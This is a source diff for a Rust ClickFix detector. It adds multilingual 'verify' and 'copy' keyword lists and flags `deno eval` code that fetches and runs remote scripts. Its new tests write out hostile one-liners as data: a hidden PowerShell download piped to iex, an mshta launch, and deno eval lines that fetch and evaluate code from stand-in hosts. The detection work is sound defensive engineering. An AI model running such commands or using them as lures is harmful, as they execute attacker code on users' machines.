@@ -56,6 +56,13 @@ const RUN_PLACE_PAIR: usize = 120;
 /// Bytes of title, text and alt texts (flattened) of a page that says next to nothing: its steps,
 /// if any, are in a picture.
 const TERSE_PAGE: usize = 160;
+/// Check and verify stems, as the flat text has them (ASCII lower-cased, other scripts as written).
+const CHECKS: &str = "verif|vérif|prüf|weryfik|doğrula|kontrol|ověř|провер|Провер|перевір|Перевір|\
+                      επαλήθευ|Επαλήθευ|xác minh|kiểm tra|تحقق|التحقق|確認|認証|확인|인증|验证|驗證|\
+                      正在验证|正在驗證|checking";
+/// A page saying it copies ("Copy", "Kopiuj", "コピー", "복사", "复制" …).
+const COPY: &str =
+    "cop kopi kopy コピー 복사 复制 複製 копир Копир копіюв Копіюв sao chép نسخ αντιγρ Αντιγρ zkopír másol";
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -846,10 +853,15 @@ fn index_run(flat: &str) -> bool {
 
 /// `deno run -A URL` (`--allow-all`, `--allow-run`): a script fetched and run with every right
 /// (review 41 R41-H2). Deno's own examples run with none, or with the network only.
+/// `deno eval` runs its code with every right: code fetching and evaluating (or importing) an
+/// address is the same fetch-and-run (review 42 CF42-M2).
 fn deno_run(flat: &str) -> bool {
+    let code = find(flat, "deno eval").map_or("", |i| &flat[i + 9..]);
     has(flat, "deno run")
         && has_url(flat)
         && (has_word(flat, "-a") || has_any(flat, "--allow-all --allow-run"))
+        || fetch_run(code)
+        || has_url(code) && has(code, "import(")
 }
 
 /// A download saved to a Windows path and that same file run later on the line (review 32
@@ -2404,7 +2416,14 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
             // (A device "verification" page of an MDM may copy its agent from a CDN over https:
             // the bare word only with a bare IP or plain http, or for mshta and the like, which
             // no vendor copies.)
-            || (fetch > 0 || lolbin) && has_any(&page.flat, "verif vérif prüf 確認 провер 확인 验证"));
+            || (fetch > 0 || lolbin) && CHECKS.split('|').any(|w| has(&page.flat, w))
+            // A check as the page's first word ("Weryfikacja …", "확인 중입니다", "Проверка …"),
+            // before a hidden-window download from another site, on a page that never says it
+            // copies: a gate's status, over https too (review 42 CF42-M2). A portal names what
+            // it checks ("Device verification") or has a Copy button.
+            || (command.shapes.contains(&Shape::PowerShellHidden) || lolbin)
+                && CHECKS.split('|').any(|w| trim(&page.flat).starts_with(w))
+                && !has_any(&page.flat, COPY));
     let unseen = !typed
         && !page.cut
         && (fetch > 0 || command.hides_script() && command.https_sites.is_empty() || terse)
@@ -2690,6 +2709,77 @@ mod tests {
             "mshta https://tools.helpdesk.example/launch.hta"
         ));
         assert!(!on("https://it.example/", &["Launcher", "Copy"], hta));
+    }
+
+    #[test]
+    fn review42_a_check_status_in_any_script_and_deno_eval() {
+        let on = |url: &str, parts: &[&str], clip: &str| {
+            assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
+        };
+        // A page of a few words that is only a check's status, steps in a picture, a hidden
+        // download run from another site over https: ClickFix in any script.
+        let hidden = "powershell -nop -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
+        for parts in [
+            ["Weryfikacja przeglądarki", "Dalej"],
+            ["확인 중입니다", "다음"],
+            ["確認しています", "次へ"],
+            ["Проверка браузера", "Готово"],
+            ["Doğrulanıyor", "Tamam"],
+            ["正在验证", "继续"],
+            ["Επαλήθευση", "Συνέχεια"],
+        ] {
+            assert!(on("https://gate.example/", &parts, hidden), "{parts:?}");
+        }
+        // A portal naming what it checks, or with a Copy button; the page's own site; a Unix
+        // installer from a release host (a tool's "Verifying…" page): not so.
+        for (url, parts, clip) in [
+            (
+                "https://mdm.firm.example/",
+                ["Проверка устройства", "Копировать"],
+                hidden,
+            ),
+            (
+                "https://mdm.firm.example/",
+                ["Vérification de l'appareil", "Copier"],
+                hidden,
+            ),
+            (
+                "https://mdm.firm.example/",
+                ["Weryfikacja przeglądarki", "Kopiuj"],
+                hidden,
+            ),
+            (
+                "https://agent.firm.example/",
+                ["확인 중입니다", ""],
+                "powershell -nop -w hidden -c \"iwr https://agent.firm.example/a.ps1 -useb | iex\"",
+            ),
+            (
+                "https://get.drift.example/",
+                ["Verifying…", "drift"],
+                "curl -fsSL https://releases.cdn-host.example/drift/install.sh | sh",
+            ),
+        ] {
+            assert!(!on(url, &parts, clip), "{parts:?} {clip}");
+        }
+        // `deno eval` runs with every right: code fetching an address and evaluating or
+        // importing it is a download run; printing what it fetched is docs'.
+        for clip in [
+            "deno eval \"eval(await (await fetch('https://relay.test/p.js')).text())\"",
+            "deno eval \"await import('https://relay.test/x.js')\"",
+        ] {
+            assert_eq!(shapes_of(clip), vec![Shape::PipeToShell], "{clip}");
+            let steps = "The build was paused. Open Terminal, paste with Cmd + V, press Return.";
+            assert!(
+                on("https://ci-notice.example/", &["Build", steps], clip),
+                "{clip}"
+            );
+        }
+        for clip in [
+            "deno eval \"console.log(await (await fetch('https://example.org')).text())\"",
+            "deno eval \"console.log(Deno.version)\"",
+        ] {
+            assert!(shapes_of(clip).is_empty(), "{clip}");
+        }
     }
 
     #[test]
